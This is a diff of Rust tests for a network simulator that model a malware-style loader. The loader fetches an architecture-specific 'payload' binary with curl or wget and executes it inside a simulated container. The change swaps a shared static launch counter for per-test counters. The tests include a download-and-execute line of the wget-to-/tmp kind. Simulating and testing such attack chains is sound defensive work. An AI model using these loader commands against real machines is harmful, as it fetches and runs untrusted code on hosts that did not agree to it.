@@ -63,17 +63,19 @@ fn world(files: Vec<ServedFile>, commands: CommandSet) -> World {
     }
 }
 
-static LAUNCHES: AtomicU32 = AtomicU32::new(0);
-
-struct Launched;
+/// The payload program: counts its launches in the counter its test owns
+/// (tests run on parallel threads, so they must not share one).
+struct Launched(Arc<AtomicU32>);
 impl Application for Launched {
     fn on_start(&mut self, _ctx: &mut Ctx<'_>) {
-        LAUNCHES.fetch_add(1, Ordering::SeqCst);
+        self.0.fetch_add(1, Ordering::SeqCst);
     }
 }
 
-fn test_binary(arch: Arch) -> ServedFile {
-    let launcher: ProgramLauncher = Arc::new(|_ctx, _env| Box::new(Launched));
+fn test_binary(arch: Arch, launches: &Arc<AtomicU32>) -> ServedFile {
+    let launches = Arc::clone(launches);
+    let launcher: ProgramLauncher =
+        Arc::new(move |_ctx, _env| Box::new(Launched(Arc::clone(&launches))));
     ServedFile {
         path: format!("/bins/payload.{}", arch.suffix()),
         entry: FileEntry {
@@ -103,8 +105,8 @@ fn loader_script(host: std::net::IpAddr) -> ServedFile {
 
 #[test]
 fn curl_pipe_sh_downloads_and_executes() {
-    LAUNCHES.store(0, Ordering::SeqCst);
-    let files = |host| vec![loader_script(host), test_binary(Arch::X86_64)];
+    let launches = Arc::new(AtomicU32::new(0));
+    let files = |host| vec![loader_script(host), test_binary(Arch::X86_64, &launches)];
     let mut w = world(vec![], CommandSet::standard());
     let files = files(w.server_v4);
     // Re-create world with the right host baked into the script.
@@ -115,7 +117,7 @@ fn curl_pipe_sh_downloads_and_executes() {
     );
     w.sim.install_app(w.dev_node, Box::new(job));
     w.sim.run_until(SimTime::from_secs(30));
-    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 1, "payload executed once");
+    assert_eq!(launches.load(Ordering::SeqCst), 1, "payload executed once");
     assert!(w.container.state().fs.exists("/tmp/payload"));
     let events = &w.container.state().events;
     assert!(events
@@ -128,9 +130,9 @@ fn curl_pipe_sh_downloads_and_executes() {
 
 #[test]
 fn missing_curl_aborts_before_any_network_traffic() {
-    LAUNCHES.store(0, Ordering::SeqCst);
+    let launches = Arc::new(AtomicU32::new(0));
     let mut w = world(vec![], CommandSet::without(&["curl"]));
-    let files = vec![loader_script(w.server_v4), test_binary(Arch::X86_64)];
+    let files = vec![loader_script(w.server_v4), test_binary(Arch::X86_64, &launches)];
     w = world(files, CommandSet::without(&["curl"]));
     let job = ShellJob::command(
         w.container.clone(),
@@ -138,7 +140,7 @@ fn missing_curl_aborts_before_any_network_traffic() {
     );
     w.sim.install_app(w.dev_node, Box::new(job));
     w.sim.run_until(SimTime::from_secs(10));
-    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 0);
+    assert_eq!(launches.load(Ordering::SeqCst), 0);
     assert!(w
         .container
         .state()
@@ -149,12 +151,12 @@ fn missing_curl_aborts_before_any_network_traffic() {
 
 #[test]
 fn wrong_architecture_binary_does_not_execute() {
-    LAUNCHES.store(0, Ordering::SeqCst);
+    let launches = Arc::new(AtomicU32::new(0));
     let mut w = world(vec![], CommandSet::standard());
     // Serve an ARM binary under the path an x86 host will request: the
     // container's $ARCH substitution requests payload.x86, so serve the
     // mismatched binary AT that path.
-    let mut bin = test_binary(Arch::Arm7);
+    let mut bin = test_binary(Arch::Arm7, &launches);
     bin.path = "/bins/payload.x86".to_owned();
     let files = vec![loader_script(w.server_v4), bin];
     w = world(files, CommandSet::standard());
@@ -165,7 +167,7 @@ fn wrong_architecture_binary_does_not_execute() {
     w.sim.install_app(w.dev_node, Box::new(job));
     w.sim.run_until(SimTime::from_secs(30));
     assert_eq!(
-        LAUNCHES.load(Ordering::SeqCst),
+        launches.load(Ordering::SeqCst),
         0,
         "exec-format error: ARM binary on x86 host"
     );
@@ -173,7 +175,6 @@ fn wrong_architecture_binary_does_not_execute() {
 
 #[test]
 fn missing_file_on_server_fails_gracefully() {
-    LAUNCHES.store(0, Ordering::SeqCst);
     let w0 = world(vec![], CommandSet::standard());
     let server = w0.server_v4;
     let mut w = world(vec![], CommandSet::standard());
@@ -183,8 +184,8 @@ fn missing_file_on_server_fails_gracefully() {
     );
     w.sim.install_app(w.dev_node, Box::new(job));
     w.sim.run_until(SimTime::from_secs(10));
-    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 0);
-    // The job exits; its `sh` process is deregistered.
+    // No payload is served, so nothing can launch; the job exits and its
+    // `sh` process is deregistered.
     assert!(w.container.state().procs.is_empty());
 }
 
@@ -202,7 +203,7 @@ fn unreachable_server_times_out_and_cleans_up() {
 
 #[test]
 fn executing_without_chmod_fails() {
-    LAUNCHES.store(0, Ordering::SeqCst);
+    let launches = Arc::new(AtomicU32::new(0));
     let mut w = world(vec![], CommandSet::standard());
     let script = ShellScript::new([
         format!("wget http://{}/bins/payload.$ARCH -O /tmp/p", w.server_v4),
@@ -218,7 +219,7 @@ fn executing_without_chmod_fails() {
                 executable: false,
             },
         },
-        test_binary(Arch::X86_64),
+        test_binary(Arch::X86_64, &launches),
     ];
     let server = w.server_v4;
     w = world(files, CommandSet::standard());
@@ -228,5 +229,5 @@ fn executing_without_chmod_fails() {
     );
     w.sim.install_app(w.dev_node, Box::new(job));
     w.sim.run_until(SimTime::from_secs(30));
-    assert_eq!(LAUNCHES.load(Ordering::SeqCst), 0, "permission denied without +x");
+    assert_eq!(launches.load(Ordering::SeqCst), 0, "permission denied without +x");
 }
